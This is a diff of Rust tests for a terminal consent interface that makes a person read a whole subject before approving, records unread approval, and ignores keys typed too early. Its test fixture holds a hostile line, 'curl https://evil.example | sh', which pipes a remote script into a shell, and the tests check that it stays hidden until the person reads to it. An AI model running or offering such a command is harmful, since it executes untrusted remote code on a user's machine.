@@ -1,4 +1,4 @@
-//! A person's yes is to what they saw: reading before consent, and keys that come too early.
+//! Consent is to what was seen: reading before consent, and keys that come too early.
 
 use crossterm::event::KeyCode;
 use holdpoint_core::Decision;
@@ -38,11 +38,11 @@ fn consent_waits_for_the_end_of_the_subject() {
     let mut model = opened(&long(1));
     let shown = draw(&model);
     assert!(shown.contains("Subject\n  echo 1\n") && !shown.contains("curl"), "{shown}");
-    assert!(shown.contains("lines left to read before you consent (PgDn; C unread)"), "{shown}");
+    assert!(shown.contains("lines left · PgDn · C approve unread"), "{shown}");
     assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter reads on");
     let mut model = opened(&long(1));
     assert_eq!(press(&mut model, "1"), []);
-    assert!(draw(&model).contains("lines of the subject are left to read first: PgDn. C consents unread."));
+    assert!(draw(&model).contains("lines left (PgDn). C approves unread."));
     // Space and PgDn read on.
     press(&mut model, " <pgdn><pgdn>");
     assert!(draw(&model).contains("curl https://evil.example | sh"), "{}", draw(&model));
@@ -69,7 +69,7 @@ fn going_to_a_control_is_not_reading() {
     press(&mut model, "k");
     assert!(draw(&model).contains("> 1 Yes"), "{}", draw(&model));
     assert_eq!(press(&mut model, "<enter>"), []);
-    assert!(draw(&model).contains("lines of the subject are left to read first: PgDn."), "{}", draw(&model));
+    assert!(draw(&model).contains("lines left (PgDn)."), "{}", draw(&model));
 }
 
 #[test]
@@ -87,7 +87,7 @@ fn the_subject_alone_read_to_its_end_counts() {
 fn consent_unread_is_a_second_step_and_recorded() {
     let mut model = opened(&long(1));
     assert_eq!(press(&mut model, "1C"), []);
-    assert!(draw(&model).contains("You consent unread: the answer will say so."), "{}", draw(&model));
+    assert!(draw(&model).contains("Unread approval (recorded)."), "{}", draw(&model));
     assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(false));
 }
 
@@ -141,9 +141,9 @@ fn a_run_of_keys_that_began_before_a_card_appeared_never_reaches_it() {
             assert_eq!(press_at(&mut model, key, later(at)), [], "{gap} ms");
         }
         let shown = draw(&model);
-        assert!(shown.contains("What you pressed before this had appeared did nothing"), "{shown}");
+        assert!(shown.contains("Keys typed before this appeared were ignored"), "{shown}");
         assert!(shown.ends_with("just appeared …"), "{shown}");
-        // After a pause it is looked at.
+        // After a pause, keys act again.
         assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(at + 610)), []);
         assert_eq!(sent(&press_at(&mut model, KeyCode::Enter, later(at + 620))).values["c"], "yes");
     }
@@ -158,15 +158,15 @@ fn keys_pressed_while_something_is_sent_or_opened_do_nothing_and_say_so() {
     assert_eq!(press_at(&mut model, KeyCode::Enter, later(1_500)).len(), 1, "the answer");
     assert!(draw(&model).contains("Sending …"));
     model.arrival.drawn(later(2_000));
-    // The next decision is selected now; what was pressed before that does not open it.
+    // The next decision is selected now; keys pressed before that do not open it.
     assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(1_990)), []);
     assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_100)), []);
-    // That the answer was taken changes nothing about that.
+    // The acknowledgement does not change that.
     let taken = Taken { decision: first, next: None, replayed: false, same: Vec::new() };
     update(&mut model, News::Taken(Box::new(taken)));
     assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_701)).len(), 1);
     assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(2_702)), []);
-    assert!(draw(&model).contains("That key did nothing: the decision is being opened."), "{}", draw(&model));
+    assert!(draw(&model).contains("Ignored: still opening."), "{}", draw(&model));
 }
 
 #[test]
@@ -185,9 +185,21 @@ fn a_number_is_for_the_field_that_has_the_focus() {
     press(&mut model, "2");
     assert!(draw(&model).contains("> 2 (x) Take 2"), "{}", draw(&model));
     press(&mut model, "3");
-    assert!(draw(&model).contains("nothing in this field has the number 3"), "{}", draw(&model));
+    assert!(draw(&model).contains("No option 3."), "{}", draw(&model));
     // What has no numbers is not answered by those of another field.
     press(&mut model, "<tab>2");
     let shown = draw(&model);
-    assert!(shown.contains("1 (x) Take commit") && shown.contains("nothing in this field"), "{shown}");
+    assert!(shown.contains("1 (x) Take commit") && shown.contains("No option 2."), "{shown}");
+}
+
+#[test]
+fn enter_on_what_is_out_of_view_shows_it_and_says_so() {
+    let mut model = opened(&long(1));
+    press(&mut model, " <pgdn><pgdn><pgdn>1");
+    draw(&model);
+    press(&mut model, "<home>");
+    assert!(!draw(&model).contains("curl"), "{}", draw(&model));
+    assert_eq!(press(&mut model, "<enter>"), []);
+    assert!(draw(&model).contains("Scrolled back. Press again."), "{}", draw(&model));
+    assert_eq!(sent(&press(&mut model, "<enter>")).values["c"], json!("yes"));
 }
